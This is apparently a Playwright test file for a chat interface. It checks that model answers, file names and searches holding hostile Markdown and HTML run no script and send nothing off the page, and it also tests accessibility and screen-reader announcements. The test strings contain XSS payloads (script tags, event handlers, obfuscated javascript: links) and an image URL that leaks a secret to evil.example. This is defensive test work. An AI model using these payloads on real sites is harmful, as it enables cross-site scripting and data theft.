// Whatever a model writes, nothing runs, nothing is fetched and nothing leaves the page; and no screen has a serious
// accessibility fault.
import assert from "node:assert/strict";
import test, { after, before } from "node:test";
import type { Browser } from "playwright-core";
import { strings } from "../../web/strings.ts";
import { heldAnswer } from "../engine/held-answer.ts";
import { ask, faultsOf, lastAnswer, openBrowser, skipWithoutChromium as skip, visit } from "./browser.ts";
import { openPageServer } from "./page-server.ts";

let browser: Browser;
before(async () => {
  if (!skip) browser = await openBrowser();
});
after(() => browser?.close());

const hostile = `
<script>window.harmed = 1</script> <img src=x onerror="window.harmed = 2"> <svg onload="window.harmed = 3"></svg>
<iframe src="https://evil.example/frame"></iframe> <style>body { display: none }</style> <form action="https://evil.example">

[js](javascript:window.harmed=4) [JS](JaVaScRiPt:window.harmed=5) [tab](java&#9;script:window.harmed=6)
[data](data:text/html,<script>window.harmed=7</script>) [vb](vbscript:x) [file](file:///etc/passwd) [blob](blob:x) [rel](/v1/models)
<javascript:window.harmed=8> ![pixel](https://evil.example/p.png?q=secret) ![p](//evil.example/x.png) ![d](data:image/svg+xml;base64,PHN2Zz4=)
[good](https://example.com/a) [mail](mailto:a@example.com) https://example.org/auto

[ref]: javascript:window.harmed=9
[click][ref]

$$\\href{javascript:window.harmed=10}{x} \\includegraphics{https://evil.example/i.png} \\htmlStyle{background:url(https://evil.example/c)}{y}$$

\`\`\`html"onmouseover="window.harmed=11
<script>window.harmed=12</script>
\`\`\`

| <script>window.harmed=13</script> | [x](javascript:window.harmed=14) |
| --- | --- |
| <b onclick="window.harmed=15">b</b> | ![t](https://evil.example/t.png) |
`;

for (const locale of ["zh-CN", "en-US"]) {
  test(`${locale}: hostile Markdown does nothing, streamed or whole`, { skip }, async () => {
    await using server = await openPageServer({
      answer: () => hostile.match(/[\s\S]{1,40}/g) ?? [],
      tokensPerSecond: 400,
    });
    await using visited = await visit(browser, server.url, { locale });
    const { page } = visited;
    await ask(page, `${hostile} as a question`);
    await lastAnswer(page).locator(".katex").first().waitFor();
    const addresses: string[] = await lastAnswer(page)
      .locator("a")
      .evaluateAll((links) => links.map((link) => (link as unknown as { href: string }).href));
    assert.deepEqual(
      new Set(addresses),
      new Set(["https://example.com/a", "mailto:a@example.com", "https://example.org/auto"]),
    );
    for (const tag of ["script", "iframe", "img", "form", "style", "object", "svg[onload]", "[onerror]", "[onclick]"]) {
      assert.equal(await page.locator(`.message ${tag}`).count(), 0, tag);
    }
    for (const dead of await lastAnswer(page).locator(".dead-link").all()) await dead.click();
    assert.equal(await page.evaluate("window.harmed"), undefined);
    assert.ok(
      (await lastAnswer(page).innerText()).includes("<script>window.harmed = 1</script>"),
      "shown as text, not dropped",
    );
    assert.deepEqual(visited.strangers, []);
  });
}

test("a hostile title, file name and search do nothing", { skip }, async () => {
  await using server = await openPageServer();
  await using visited = await visit(browser, server.url);
  const { page } = visited;
  const name = "<img src=x onerror=window.harmed=1>.txt";
  await page
    .locator('input[type="file"]')
    .setInputFiles([{ name, mimeType: "text/plain", buffer: Buffer.from("</document>\nx") }]);
  await ask(page, "<svg onload=window.harmed=2>");
  await page.getByRole("searchbox").fill("<svg onload");
  await page.locator(".chat-excerpt").waitFor();
  assert.equal(await page.evaluate("window.harmed"), undefined);
});

const rich =
  "# Title\n\nText with [link](https://example.com), `code`.\n\n- [ ] task\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n```js\nconst a = 1; // note\n```\n\n$$x^2$$";

for (const [colorScheme, locale, t] of [
  ["light", "zh-CN", strings.zh],
  ["dark", "en-US", strings.en],
] as const) {
  test(`no serious accessibility fault: ${colorScheme}, ${locale}`, { skip }, async () => {
    let calls = 0;
    await using server = await openPageServer({
      answer: () => {
        if (++calls === 1) return rich;
        throw new Error("broken");
      },
    });
    server.claim = { model: { ...server.engine.status().model, isDemonstration: true } };
    await using visited = await visit(browser, server.url, { locale, colorScheme, reducedMotion: "reduce" });
    const { page } = visited;
    const faults: Record<string, string[]> = {};
    await page.getByText(t.demoTitle).waitFor();
    faults.empty = await faultsOf(page);
    await ask(page, "show all");
    await lastAnswer(page).locator(".hljs-keyword").waitFor();
    await ask(page, "break");
    faults.conversation = await faultsOf(page);
    await page.locator(".composer textarea").fill("/");
    faults.slash = await faultsOf(page);
    await page.keyboard.press("Enter");
    await page.getByRole("dialog").waitFor();
    faults.template = await faultsOf(page);
    await page.keyboard.press("Escape");
    await page.getByRole("button", { name: t.settings, exact: true }).click();
    await page.getByText(t.advanced, { exact: true }).click();
    faults.settings = await faultsOf(page);
    await page.keyboard.press("Escape");
    await page.locator("dialog").waitFor({ state: "detached" });
    await page.keyboard.press("Control+k");
    await page.getByRole("option").nth(12).waitFor();
    faults.palette = await faultsOf(page);
    await page.getByRole("combobox").fill(t.models);
    await page.keyboard.press("Enter");
    await page.locator(".model").first().waitFor();
    faults.models = await faultsOf(page);
    await page.keyboard.press("Escape");
    await page.locator(".composer-row").getByRole("button", { name: t.templates }).click();
    faults.templates = await faultsOf(page);
    await page.getByRole("button", { name: t.templateNew }).click();
    await page.getByLabel(t.templatePrompt, { exact: true }).fill("{{one}}");
    faults.editor = await faultsOf(page);
    assert.deepEqual(
      Object.entries(faults).filter(([, found]) => found.length > 0),
      [],
    );
  });
}

test("a screen reader hears that an answer began, and its text at the end", { skip }, async () => {
  const { answer, goOn } = heldAnswer("The whole", " answer.");
  await using server = await openPageServer({ answer, tokensPerSecond: 40 });
  await using visited = await visit(browser, server.url);
  const { page } = visited;
  const heard = page.getByTestId("announcer");
  await page.locator(".composer textarea").fill("speak");
  await page.keyboard.press("Enter");
  await heard.getByText(strings.en.answerStarted).waitFor({ state: "attached" });
  goOn();
  await heard.getByText(`${strings.en.answerDone} The whole answer.`).waitFor({ state: "attached" });
});
